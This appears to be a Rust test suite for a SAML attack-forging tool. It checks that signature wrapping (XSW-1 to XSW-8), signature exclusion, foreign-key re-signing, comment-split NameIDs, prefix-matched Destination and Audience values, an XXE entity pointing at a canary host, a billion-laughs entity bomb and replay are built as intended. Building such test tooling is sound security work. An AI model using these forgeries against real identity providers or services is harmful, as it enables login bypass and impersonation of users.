//! Each transform gives the intended shape, and the signature outcome is the one that makes the
//! attack what it is (still verifying over the original where the wrapping relies on that).

use super::*;
use crate::clock::snapshot_epoch;
use crate::keys::Validity;
use crate::saml::response::uri;
use crate::saml::{
    verify_signatures, AssertionSpec, AttributeSpec, ConditionsSpec, IssuerSpec, NameIdSpec,
    StatusSpec, SubjectConfirmationSpec, XmlStyle,
};
use crate::xml;
use chrono::Duration;
use std::sync::OnceLock;

const RESPONSE_ID: &str = "_resp1";
const ASSERTION_ID: &str = "_assert1";
const ALICE: &str = "alice@acme.example";
const ACS: &str = "https://sp.example/acs";
const SP: &str = "https://sp.example";
const IDP: &str = "https://idp.example";

fn key() -> &'static SigningKey {
    static K: OnceLock<SigningKey> = OnceLock::new();
    K.get_or_init(|| {
        SigningKey::generate(
            KeyKind::Rsa,
            "idp",
            "idp",
            Validity::current(snapshot_epoch(), 1),
        )
        .expect("key")
    })
}

fn attacker() -> &'static SigningKey {
    static K: OnceLock<SigningKey> = OnceLock::new();
    K.get_or_init(|| {
        SigningKey::generate(
            KeyKind::Rsa,
            "evil",
            "attacker",
            Validity::current(snapshot_epoch(), 1),
        )
        .expect("key")
    })
}

fn spec() -> ResponseSpec {
    let t = snapshot_epoch();
    ResponseSpec {
        style: XmlStyle::default(),
        id: RESPONSE_ID.into(),
        issue_instant: t,
        destination: Some(ACS.into()),
        in_response_to: Some("_req".into()),
        issuer: IssuerSpec {
            value: IDP.into(),
            format: None,
        },
        status: StatusSpec::success(),
        assertion: Some(AssertionSpec {
            id: ASSERTION_ID.into(),
            name_id: NameIdSpec {
                value: ALICE.into(),
                format: Some(uri::NAMEID_EMAIL.into()),
                name_qualifier: None,
                sp_name_qualifier: None,
            },
            subject_confirmation: Some(SubjectConfirmationSpec {
                method: uri::CM_BEARER.into(),
                recipient: Some(ACS.into()),
                not_on_or_after: Some(t + Duration::minutes(5)),
                in_response_to: Some("_req".into()),
            }),
            conditions: Some(ConditionsSpec {
                not_before: Some(t),
                not_on_or_after: Some(t + Duration::minutes(5)),
                audiences: vec![SP.into()],
            }),
            authn_statement: None,
            attributes: vec![
                AttributeSpec {
                    name: "email".into(),
                    name_format: None,
                    friendly_name: None,
                    values: vec![ALICE.into()],
                },
                AttributeSpec {
                    name: "groups".into(),
                    name_format: None,
                    friendly_name: None,
                    values: vec!["Engineering".into()],
                },
            ],
        }),
    }
}

fn signed(placement: SignaturePlacement) -> Element {
    let opts = SignOptions {
        placement,
        ..SignOptions::default()
    };
    build_response(&spec(), &opts, key()).expect("builds")
}

fn attacked(attack: SamlAttack, placement: SignaturePlacement) -> Element {
    let mut r = signed(placement);
    let ctx = AttackContext {
        foreign_key: Some(attacker()),
        ..AttackContext::default()
    };
    assert_eq!(apply(attack, &mut r, &ctx).expect("applies"), Output::Tree);
    r
}

fn verify(r: &Element) -> Result<crate::saml::VerifiedSignatures, SamlError> {
    verify_signatures(&r.to_document(), key().cert_der())
}

/// Local names of the response's child elements.
fn kids(e: &Element) -> Vec<&str> {
    e.elements().map(|c| c.name.as_str()).collect()
}

fn assertions(r: &Element) -> Vec<&Element> {
    r.elements().filter(|e| e.name == "Assertion").collect()
}

fn name_id(assertion: &Element) -> String {
    assertion
        .child_named("Subject")
        .and_then(|s| s.child_named("NameID"))
        .map(Element::text_content)
        .unwrap_or_default()
}

fn has_signature(e: &Element) -> bool {
    e.child_named("Signature").is_some()
}

// ---- names and placements ----

#[test]
fn serde_names_are_kebab_case_unique_and_match_name() {
    let mut seen = std::collections::HashSet::new();
    for a in SamlAttack::ALL {
        let json = serde_json::to_value(a).expect("json");
        assert_eq!(json, serde_json::json!(a.name()));
        assert_eq!(serde_json::from_value::<SamlAttack>(json).expect("back"), a);
        assert!(seen.insert(a.name()));
        assert!(a.catalogue_id().starts_with("SAML-"));
        assert!(!a.placements().is_empty());
    }
    assert_eq!(
        serde_json::from_str::<SamlAttack>("\"two-assertions-signed-first\"").expect("name"),
        SamlAttack::TwoAssertionsSignedFirst
    );
}

#[test]
fn placement_is_kept_when_it_fits_and_chosen_otherwise() {
    use SignaturePlacement::*;
    assert_eq!(SamlAttack::Xsw3.settle_placement(Both), Both);
    assert_eq!(SamlAttack::Xsw3.settle_placement(Response), Assertion);
    assert_eq!(SamlAttack::Xsw1.settle_placement(Assertion), Response);
    assert_eq!(
        SamlAttack::SignatureExclusion.settle_placement(None),
        Assertion
    );
    assert_eq!(SamlAttack::Replay.settle_placement(None), None);
}

// ---- signatures (SAML-SIG-1..4) ----

#[test]
fn saml_sig_1_unsigned_removes_every_signature() {
    let r = attacked(SamlAttack::Unsigned, SignaturePlacement::Both);
    assert!(r.find_all("Signature").is_empty());
    assert!(matches!(verify(&r), Err(SamlError::NoSignature)));
}

#[test]
fn saml_sig_2_signature_exclusion_strips_the_assertion_signature_first() {
    let r = attacked(
        SamlAttack::SignatureExclusion,
        SignaturePlacement::Assertion,
    );
    assert!(r.find_all("Signature").is_empty());

    // Both signed: the response signature stays, over content that changed under it.
    let r = attacked(SamlAttack::SignatureExclusion, SignaturePlacement::Both);
    assert!(has_signature(&r));
    assert!(!has_signature(assertions(&r)[0]));
    assert!(matches!(
        verify(&r),
        Err(SamlError::XmlSignatureInvalid { .. })
    ));

    let r = attacked(SamlAttack::SignatureExclusion, SignaturePlacement::Response);
    assert!(r.find_all("Signature").is_empty());

    let mut r = signed(SignaturePlacement::None);
    assert!(matches!(
        apply(
            SamlAttack::SignatureExclusion,
            &mut r,
            &AttackContext::default()
        ),
        Err(AttackError::NotSigned { .. })
    ));
}

#[test]
fn saml_sig_4_corrupted_signature_values_keep_their_length_and_fail() {
    let before = signed(SignaturePlacement::Both);
    let r = attacked(SamlAttack::CorruptSignature, SignaturePlacement::Both);
    let values = |e: &Element| -> Vec<String> {
        e.find_all("SignatureValue")
            .iter()
            .map(|v| v.text_content())
            .collect()
    };
    let (old, new) = (values(&before), values(&r));
    assert_eq!(new.len(), 2);
    for (o, n) in old.iter().zip(&new) {
        assert_ne!(o, n);
        assert_eq!(o.len(), n.len());
    }
    assert!(matches!(
        verify(&r),
        Err(SamlError::XmlSignatureInvalid { .. })
    ));
}

#[test]
fn saml_sig_3_foreign_key_resigns_everything_with_its_certificate_in_key_info() {
    for placement in [
        SignaturePlacement::Assertion,
        SignaturePlacement::Response,
        SignaturePlacement::Both,
    ] {
        let r = attacked(SamlAttack::ForeignKey, placement);
        for cert in r.find_all("X509Certificate") {
            assert_eq!(cert.text_content(), attacker().cert_b64());
        }
        assert!(matches!(
            verify(&r),
            Err(SamlError::XmlSignatureInvalid { .. })
        ));
        let v = verify_signatures(&r.to_document(), attacker().cert_der())
            .expect("valid under the attacker's certificate");
        let expected: &[&str] = match placement {
            SignaturePlacement::Assertion => &[ASSERTION_ID],
            SignaturePlacement::Response => &[RESPONSE_ID],
            _ => &[RESPONSE_ID, ASSERTION_ID],
        };
        assert_eq!(v.covered_ids(), expected, "{placement:?}");
    }
    let mut r = signed(SignaturePlacement::Assertion);
    assert!(matches!(
        apply(SamlAttack::ForeignKey, &mut r, &AttackContext::default()),
        Err(AttackError::NoForeignKey { .. })
    ));
}

// ---- wrapping (SAML-XSW-1..8) ----

#[test]
fn saml_xsw_1_hides_the_signed_original_response_in_the_signature() {
    let r = attacked(SamlAttack::Xsw1, SignaturePlacement::Response);
    assert_eq!(r.id(), Some(EVIL_RESPONSE_ID));
    let a = assertions(&r);
    assert_eq!((a.len(), a[0].id()), (1, Some(EVIL_ASSERTION_ID)));
    assert_eq!(name_id(a[0]), DEFAULT_VICTIM);
    let object = r
        .child_named("Signature")
        .and_then(|s| s.child_named("Object"));
    let original = object
        .and_then(|o| o.child_named("Response"))
        .expect("clone");
    assert_eq!(original.id(), Some(RESPONSE_ID));
    assert!(!has_signature(original));
    assert_eq!(
        name_id(original.child_named("Assertion").expect("a")),
        ALICE
    );
    // The Reference names the clone, inside the signature it is enveloped by: xmlsec refuses.
    assert!(verify(&r).is_err());
}

#[test]
fn saml_xsw_2_puts_the_signed_original_response_before_the_signature() {
    let r = attacked(SamlAttack::Xsw2, SignaturePlacement::Response);
    assert_eq!(r.id(), Some(EVIL_RESPONSE_ID));
    assert_eq!(
        kids(&r),
        ["Issuer", "Response", "Signature", "Status", "Assertion"]
    );
    assert_eq!(name_id(assertions(&r)[0]), DEFAULT_VICTIM);
    // Still verifies: over the original, which the evil root is not.
    let v = verify(&r).expect("verifies over the original");
    assert_eq!(v.covered_ids(), [RESPONSE_ID]);
    assert!(!v.covers(EVIL_RESPONSE_ID));
}

#[test]
fn saml_xsw_3_puts_an_evil_assertion_before_the_signed_one() {
    let r = attacked(SamlAttack::Xsw3, SignaturePlacement::Both);
    assert!(!has_signature(&r), "the response signature cannot survive");
    let a = assertions(&r);
    assert_eq!(a.len(), 2);
    assert_eq!(
        (a[0].id(), name_id(a[0])),
        (Some(EVIL_ASSERTION_ID), DEFAULT_VICTIM.into())
    );
    assert!(!has_signature(a[0]));
    assert_eq!(
        (a[1].id(), name_id(a[1])),
        (Some(ASSERTION_ID), ALICE.into())
    );
    assert!(a[0].find_all("AttributeValue")[0].text_content() == DEFAULT_VICTIM);
    let v = verify(&r).expect("the signed assertion still verifies");
    assert_eq!(v.covered_ids(), [ASSERTION_ID]);
}

#[test]
fn saml_xsw_4_wraps_the_signed_assertion_in_an_evil_one() {
    let r = attacked(SamlAttack::Xsw4, SignaturePlacement::Assertion);
    let a = assertions(&r);
    assert_eq!((a.len(), a[0].id()), (1, Some(EVIL_ASSERTION_ID)));
    let inner = a[0].child_named("Assertion").expect("wrapped");
    assert_eq!(inner.id(), Some(ASSERTION_ID));
    assert!(has_signature(inner) && !has_signature(a[0]));
    assert_eq!(verify(&r).expect("verifies").covered_ids(), [ASSERTION_ID]);
}

#[test]
fn saml_xsw_5_keeps_the_signature_on_the_evil_assertion_and_moves_the_original_last() {
    let r = attacked(SamlAttack::Xsw5, SignaturePlacement::Assertion);
    let a = assertions(&r);
    assert_eq!(a.len(), 2);
    assert_eq!(a[0].id(), Some(EVIL_ASSERTION_ID));
    assert!(has_signature(a[0]));
    assert_eq!(name_id(a[0]), DEFAULT_VICTIM);
    assert_eq!(
        (a[1].id(), name_id(a[1])),
        (Some(ASSERTION_ID), ALICE.into())
    );
    assert!(!has_signature(a[1]));
    assert_eq!(
        r.elements().last().map(|e| e.id()),
        Some(Some(ASSERTION_ID))
    );
    // The Reference resolves to the unsigned copy, whose canonical form is the original's.
    assert_eq!(verify(&r).expect("verifies").covered_ids(), [ASSERTION_ID]);
}

#[test]
fn saml_xsw_6_hides_the_original_inside_the_evil_assertions_signature() {
    let r = attacked(SamlAttack::Xsw6, SignaturePlacement::Assertion);
    let a = assertions(&r);
    assert_eq!((a.len(), a[0].id()), (1, Some(EVIL_ASSERTION_ID)));
    let copy = a[0]
        .child_named("Signature")
        .and_then(|s| s.child_named("Assertion"))
        .expect("copy in the signature");
    assert_eq!(
        (copy.id(), name_id(copy)),
        (Some(ASSERTION_ID), ALICE.into())
    );
    assert!(verify(&r).is_err(), "enveloped by its own signature");
}

#[test]
fn saml_xsw_7_puts_a_same_id_evil_clone_in_extensions() {
    let r = attacked(SamlAttack::Xsw7, SignaturePlacement::Assertion);
    assert_eq!(kids(&r), ["Issuer", "Extensions", "Status", "Assertion"]);
    let ext = r.child_named("Extensions").expect("extensions");
    assert_eq!(ext.prefix, r.prefix);
    let evil = ext.child_named("Assertion").expect("clone");
    assert_eq!(
        (evil.id(), name_id(evil)),
        (Some(ASSERTION_ID), DEFAULT_VICTIM.into())
    );
    assert!(has_signature(assertions(&r)[0]));
    assert!(
        matches!(verify(&r), Err(SamlError::XmlSignatureInvalid { .. })),
        "duplicate IDs"
    );
}

#[test]
fn saml_xsw_8_puts_the_original_in_an_object_of_the_evil_assertions_signature() {
    let r = attacked(SamlAttack::Xsw8, SignaturePlacement::Assertion);
    let a = assertions(&r);
    assert_eq!((a.len(), a[0].id()), (1, Some(ASSERTION_ID)));
    assert_eq!(name_id(a[0]), DEFAULT_VICTIM);
    let copy = a[0]
        .child_named("Signature")
        .and_then(|s| s.child_named("Object"))
        .and_then(|o| o.child_named("Assertion"))
        .expect("copy in ds:Object");
    assert_eq!(
        (copy.id(), name_id(copy)),
        (Some(ASSERTION_ID), ALICE.into())
    );
    assert!(!has_signature(copy));
    assert!(verify(&r).is_err());
}

#[test]
fn wrapping_needs_the_signature_it_targets() {
    let ctx = AttackContext::default();
    let mut r = signed(SignaturePlacement::Assertion);
    assert!(matches!(
        apply(SamlAttack::Xsw1, &mut r, &ctx),
        Err(AttackError::NotSigned {
            element: "response",
            ..
        })
    ));
    let mut r = signed(SignaturePlacement::Response);
    assert!(matches!(
        apply(SamlAttack::Xsw3, &mut r, &ctx),
        Err(AttackError::NotSigned {
            element: "assertion",
            ..
        })
    ));
}

// ---- two assertions (SAML-TWO-1) ----

#[test]
fn saml_two_1_two_assertions_signed_first_or_second() {
    let r = attacked(
        SamlAttack::TwoAssertionsSignedFirst,
        SignaturePlacement::Assertion,
    );
    let a = assertions(&r);
    assert_eq!(
        (a[0].id(), a[1].id()),
        (Some(ASSERTION_ID), Some(SECOND_ASSERTION_ID))
    );
    assert!(has_signature(a[0]) && !has_signature(a[1]));
    assert_eq!(name_id(a[1]), DEFAULT_VICTIM);
    assert_eq!(verify(&r).expect("verifies").covered_ids(), [ASSERTION_ID]);

    let r = attacked(
        SamlAttack::TwoAssertionsSignedSecond,
        SignaturePlacement::Both,
    );
    let a = assertions(&r);
    assert_eq!(
        (a[0].id(), a[1].id()),
        (Some(SECOND_ASSERTION_ID), Some(ASSERTION_ID))
    );
    assert!(!has_signature(a[0]) && has_signature(a[1]));
}

// ---- comment split (SAML-CMT-1) ----

#[test]
fn saml_cmt_1_comment_split_round_trips_and_still_verifies() {
    let ctx = AttackContext::default();
    let doc = forge(
        SamlAttack::CommentSplit,
        spec(),
        SignOptions::default(),
        key(),
        &ctx,
    )
    .expect("forges");
    let split = "victim@corp.example<!---->.evil.example";
    assert_eq!(doc.matches(split).count(), 2, "NameID and email: {doc}");
    let tree = xml::parse(&doc).expect("parses");
    assert_eq!(tree.to_document(), doc, "the comment survives a round trip");
    let a = tree.child_named("Assertion").expect("assertion");
    assert_eq!(name_id(a), "victim@corp.example.evil.example");
    // Exclusive c14n drops the comment, so the signature is still good over the same bytes
    // (xmlsec1 accepts it), and what it covered is the joined value, not the part before the
    // comment.
    let without = doc.replace("<!---->", "");
    let v = verify_signatures(&without, key().cert_der()).expect("signed bytes unchanged");
    assert_eq!(v.covered_ids(), [ASSERTION_ID]);
    let v = verify_signatures(&doc, key().cert_der()).expect("the comment is not signed");
    let signed_text = v.signed_content(ASSERTION_ID).expect("assertion signed");
    assert!(!signed_text.contains("<!--"), "{signed_text}");
    let signed_assertion = xml::parse(signed_text).expect("signed content parses");
    assert_eq!(
        name_id(&signed_assertion),
        "victim@corp.example.evil.example"
    );

    let mut r = signed(SignaturePlacement::Assertion);
    assert!(matches!(
        apply(SamlAttack::CommentSplit, &mut r, &ctx),
        Err(AttackError::NoMatchingValue { .. })
    ));
}

// ---- prefix and substring values (SAML-DST-2, SAML-RCP-2, SAML-AUD-2) ----

#[test]
fn saml_dst_2_rcp_2_aud_2_prefix_and_substring_values_are_signed_by_the_idp() {
    let ctx = AttackContext::default();
    let cases = [
        (
            SamlAttack::DestinationPrefix,
            r#"Destination="https://sp.example/acs-other""#,
        ),
        (
            SamlAttack::RecipientSubstring,
            r#"Recipient="https://other.example/acs?next=https://sp.example/acs""#,
        ),
        (
            SamlAttack::IssuerPrefix,
            ">https://idp.example-other</saml2:Issuer>",
        ),
        (
            SamlAttack::AudiencePrefix,
            "<saml2:Audience>https://sp.example-other<",
        ),
    ];
    for (attack, needle) in cases {
        let doc = forge(attack, spec(), SignOptions::default(), key(), &ctx).expect("forges");
        assert!(doc.contains(needle), "{attack}: {doc}");
        verify_signatures(&doc, key().cert_der()).expect("signed by the IdP itself");
    }
    let mut s = spec();
    s.destination = None;
    let mut o = SignOptions::default();
    assert!(matches!(
        prepare(SamlAttack::DestinationPrefix, &mut s, &mut o, &ctx),
        Err(AttackError::MissingField {
            field: "Destination",
            ..
        })
    ));
}

// ---- DTDs (SAML-DTD-1, SAML-DTD-2) ----

#[test]
fn saml_dtd_1_xxe_is_a_document_with_an_external_entity_as_the_name_id() {
    let mut r = signed(SignaturePlacement::Assertion);
    let ctx = AttackContext {
        xxe_url: "http://canary.example/x\"y",
        ..AttackContext::default()
    };
    let Output::Text(doc) = apply(SamlAttack::Xxe, &mut r, &ctx).expect("applies") else {
        panic!("a DTD needs text")
    };
    assert!(doc.starts_with(
        r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "http://canary.example/x%22y">]><saml2p:Response"#
    ), "{doc}");
    assert!(doc.contains(">&xxe;</saml2:NameID>"));
    assert_eq!(xml::parse(&doc), Err(xml::XmlError::Doctype));
    assert!(matches!(
        verify_signatures(&doc, key().cert_der()),
        Err(SamlError::DoctypeForbidden)
    ));
}

#[test]
fn saml_dtd_2_entity_bomb_is_small_on_the_wire() {
    let mut r = signed(SignaturePlacement::Assertion);
    let out = apply(SamlAttack::EntityBomb, &mut r, &AttackContext::default()).expect("applies");
    let doc = out.document(&r);
    assert!(doc.contains(r#"<!ENTITY lol0 "lol">"#));
    assert!(doc.contains(&format!(r#"<!ENTITY lol9 "{}">"#, "&lol8;".repeat(10))));
    assert!(doc.contains(">&lol9;</saml2:NameID>"));
    assert!(doc.len() < 8 * 1024);
    assert_eq!(xml::parse(&doc), Err(xml::XmlError::Doctype));
}

// ---- replay (SAML-RPL-1) ----

#[test]
fn saml_rpl_1_replay_returns_the_previous_document_or_refuses() {
    let mut r = signed(SignaturePlacement::Assertion);
    let previous = signed(SignaturePlacement::Both).to_document();
    let ctx = AttackContext {
        previous: Some(&previous),
        ..AttackContext::default()
    };
    assert_eq!(
        apply(SamlAttack::Replay, &mut r, &ctx).expect("replays"),
        Output::Text(previous.clone())
    );
    assert!(matches!(
        apply(SamlAttack::Replay, &mut r, &AttackContext::default()),
        Err(AttackError::NothingToReplay)
    ));
}

#[test]
fn forge_settles_the_placement_each_attack_needs() {
    let opts = SignOptions {
        placement: SignaturePlacement::Assertion,
        ..SignOptions::default()
    };
    let ctx = AttackContext::default();
    let doc = forge(SamlAttack::Xsw2, spec(), opts, key(), &ctx).expect("forges");
    let tree = xml::parse(&doc).expect("parses");
    assert_eq!(tree.id(), Some(EVIL_RESPONSE_ID));
    let mut error = spec();
    error.assertion = None;
    assert!(matches!(
        forge(SamlAttack::Xsw3, error, opts, key(), &ctx),
        Err(AttackError::Saml { .. })
    ));
}
